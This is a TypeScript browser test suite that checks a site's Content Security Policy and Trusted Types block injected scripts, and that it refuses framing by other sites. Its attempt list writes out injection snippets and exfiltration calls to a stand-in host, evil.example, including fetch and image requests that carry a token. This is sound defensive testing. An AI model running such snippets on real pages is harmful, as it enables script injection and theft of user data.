import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright-core'
import type { Test } from 'tap'
import { inTab } from '../../support/browser.js'
import { eventually } from '../../support/eventually.js'
import type { PageSite } from '../../support/page-site.js'

/** What a script that got into the page would try, with what it must end in. */
const ATTEMPTS: readonly (readonly [what: string, script: string, fault: RegExp])[] = [
  ['markup as text', `document.body.innerHTML = '<b>x</b>'`, /TrustedHTML/],
  [
    'an inline script',
    `const script = document.createElement('script'); script.textContent = 'parent.hit = 1'; document.body.append(script)`,
    /TrustedScript|script-src/,
  ],
  [
    'a script from elsewhere',
    `const script = document.createElement('script'); script.src = 'http://evil.example/x.js'; document.body.append(script)`,
    /TrustedScriptURL|script-src/,
  ],
  [
    'a handler as text',
    `document.body.setAttribute('onclick', 'parent.hit = 1')`,
    /TrustedScript|script-src/,
  ],
  ['a timer with text', `setTimeout('parent.hit = 1')`, /TrustedScript|script-src/],
  [
    'a policy of its own',
    `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
    /trusted-types/,
  ],
  ['sending data elsewhere', `fetch('http://evil.example/?token').catch(() => {})`, /connect-src/],
  ['sending data with an image', `new Image().src = 'http://evil.example/?token'`, /img-src/],
  [
    'a form that leads elsewhere',
    `const form = document.createElement('form'); form.action = 'http://evil.example/'; document.body.append(form); form.submit()`,
    /form-action/,
  ],
  [
    'another base',
    `const base = document.createElement('base'); base.href = 'http://evil.example/'; document.head.append(base)`,
    /base-uri/,
  ],
  [
    'a frame',
    `const frame = document.createElement('iframe'); frame.src = 'http://evil.example/'; document.body.append(frame)`,
    /frame-src|default-src/,
  ],
  ['a style', `document.body.setAttribute('style', 'color: red')`, /style-src/],
]

/** Tests what the content security policy stops, should a script ever get in. */
export async function testPolicy(t: Test, browser: Browser, site: PageSite): Promise<void> {
  const admin = site.admin[0]!
  for (const [what, script, fault] of ATTEMPTS) {
    await t.test(`the browser stops ${what}`, async (t) => {
      await inTab(t, browser, `${admin}/`, { faults: 'allowed' }, async (page, faults) => {
        await page.evaluate(`(() => { try { ${script} } catch (error) { console.error(String(error)) } })()`)
        await eventually(`a violation of ${fault}`, () => faults.some((one) => fault.test(one)))
        t.equal(await page.evaluate('window.hit'), undefined)
      })
    })
  }

  await t.test('no other site may frame the page', async (t) => {
    const server = createServer((_, response) => {
      response.setHeader('content-type', 'text/html')
      response.end(`<!doctype html><title>x</title><iframe src="${admin}/"></iframe>`)
    })
    await new Promise<void>((done) => void server.listen(0, '127.0.0.1', done))
    t.teardown(() => server.close())
    const { port } = server.address() as AddressInfo
    await inTab(t, browser, `http://127.0.0.1:${port}/`, { faults: 'allowed' }, async (page) => {
      await eventually(
        'the frame is refused',
        () => page.frames()[1]?.url() === 'chrome-error://chromewebdata/',
      )
    })
  })
}
